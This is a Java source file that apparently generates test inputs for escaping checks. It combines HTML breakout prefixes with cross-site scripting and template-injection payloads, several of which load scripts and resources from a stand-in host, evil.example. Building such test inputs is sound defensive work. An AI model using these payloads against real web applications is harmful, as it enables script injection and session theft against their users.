package afterword.app;

import java.util.List;

/**
 * 2,000 texts that would run a script, fetch something from elsewhere or be worked out by the server, were they put on a page
 * as they are: ways out of the place where a text stands, each with ways to do harm once outside.
 */
final class Mischief {

    /** Begins every text, and shows by itself whether it was put on a page as it is. */
    static final String MARK = "\"'></textarea></title></select><script>alert(1)</script>"
            + "<img src=x onerror=alert(1)>' onmouseover='alert(1)'";

    private static final List<String> WAYS_OUT = List.of(
            "",
            "\">",
            "'>",
            "\"'>",
            "` >",
            "</textarea>",
            "</title>",
            "</option></select>",
            "</script>",
            "</style>",
            "</svg>",
            "</template>",
            "</noscript>",
            "</button></form>",
            "-->",
            "]]>",
            "<!--",
            "<![CDATA[",
            "\";",
            "';",
            "&quot;>",
            "&#39;>",
            "%22%3E",
            "\\u003e",
            "\\\">");

    private static final List<String> HARM = List.of(
            "<script>alert(1)</script>",
            "<ScRiPt >alert(1)</sCrIpT>",
            "<script/x>alert(1)</script>",
            "<script src=//evil.example/x.js></script>",
            "<script type=module>import '//evil.example/x.js'</script>",
            "<scr<script>ipt>alert(1)</scr</script>ipt>",
            "<img src=x onerror=alert(1)>",
            "<img/src/onerror=alert(1)>",
            "<img src=//evil.example/x.png>",
            "<img srcset=//evil.example/x.png>",
            "<image src=x onerror=alert(1)>",
            "<svg onload=alert(1)>",
            "<svg/onload=alert(1)//",
            "<svg><script>alert(1)</script></svg>",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
            "<svg><set onbegin=alert(1) attributeName=x>",
            "<svg><use href=//evil.example/x.svg#x>",
            "<svg><image href=//evil.example/x.svg>",
            "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>",
            "<math><mtext></table><mglyph><style><img src=x onerror=alert(1)>",
            "<iframe src=javascript:alert(1)></iframe>",
            "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
            "<iframe src=//evil.example></iframe>",
            "<object data=javascript:alert(1)></object>",
            "<object data=//evil.example></object>",
            "<embed src=javascript:alert(1)>",
            "<embed src=//evil.example>",
            "<a href=javascript:alert(1)>x</a>",
            "<a href=JaVaScRiPt:alert(1)>x</a>",
            "<a href='java&#10;script:alert(1)'>x</a>",
            "<form action=javascript:alert(1)><button>x</button></form>",
            "<button formaction=javascript:alert(1)>x</button>",
            "<input autofocus onfocus=alert(1)>",
            "<textarea autofocus onfocus=alert(1)>",
            "<select autofocus onfocus=alert(1)>",
            "<details open ontoggle=alert(1)>",
            "<div popover id=p onbeforetoggle=alert(1)>x</div>",
            "<video src=//evil.example/x.mp4 onerror=alert(1)></video>",
            "<video poster=//evil.example/x.png></video>",
            "<audio src=x onerror=alert(1)></audio>",
            "<source src=x onerror=alert(1)>",
            "<body onload=alert(1)>",
            "<body onpageshow=alert(1)>",
            "<marquee onstart=alert(1)>x</marquee>",
            "<style>@import '//evil.example/x.css';</style>",
            "<style>*{background:url(//evil.example/x.png)}</style>",
            "<style>@keyframes x{}*{animation:x}</style><b onanimationstart=alert(1)>x</b>",
            "<p style=background:url(//evil.example/x.png)>x</p>",
            "<p style=animation:x onanimationstart=alert(1)>x</p>",
            "<link rel=stylesheet href=//evil.example/x.css>",
            "<link rel=preload as=image href=//evil.example/x.png>",
            "<link rel=prefetch href=//evil.example/x>",
            "<link rel=manifest href=//evil.example/x.json>",
            "<meta http-equiv=refresh content='0;url=//evil.example'>",
            "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
            "<base href=//evil.example/>",
            "<template shadowrootmode=open><script>alert(1)</script></template>",
            "<div hx-get=//evil.example hx-trigger=load>x</div>",
            "<div data-hx-get=//evil.example data-hx-trigger=load>x</div>",
            "<div hx-on::load=alert(1) hx-get=/ hx-trigger=load>x</div>",
            "<div hx-vals='js:{x:alert(1)}' hx-get=/ hx-trigger=load>x</div>",
            "<div hx-trigger='load[alert(1)]' hx-get=/>x</div>",
            "<p th:text=${7*7} th:utext=\"'<script>alert(1)</script>'\">x</p>",
            " onmouseover=alert(1) ",
            " onfocus=alert(1) autofocus tabindex=1 ",
            " style=position:fixed;inset:0 onpointerenter=alert(1) ",
            " onanimationstart=alert(1) style=animation:x ",
            "javascript:alert(1)",
            " javascript:alert(1)//",
            "data:text/html,<script>alert(1)</script>",
            "vbscript:msgbox(1)",
            "alert(1)//",
            "-alert(1)-",
            "${7*7}",
            "*{7*7}",
            "__${7*7}__::.x",
            "[[${7*7}]]",
            "[(${7*7})]",
            "#{7*7}",
            "~{::main}");

    private Mischief() {}

    static List<String> all() {
        return WAYS_OUT.stream()
                .flatMap(out -> HARM.stream().map(harm -> out + harm))
                .distinct()
                .toList();
    }

    /** Every so-manieth of them in one text, from a place on. */
    static String text(int from, int step) {
        List<String> all = all();
        StringBuilder text = new StringBuilder(MARK);
        for (int i = from; i < all.size(); i += step) {
            text.append(' ').append(all.get(i));
        }
        return text.toString();
    }
}
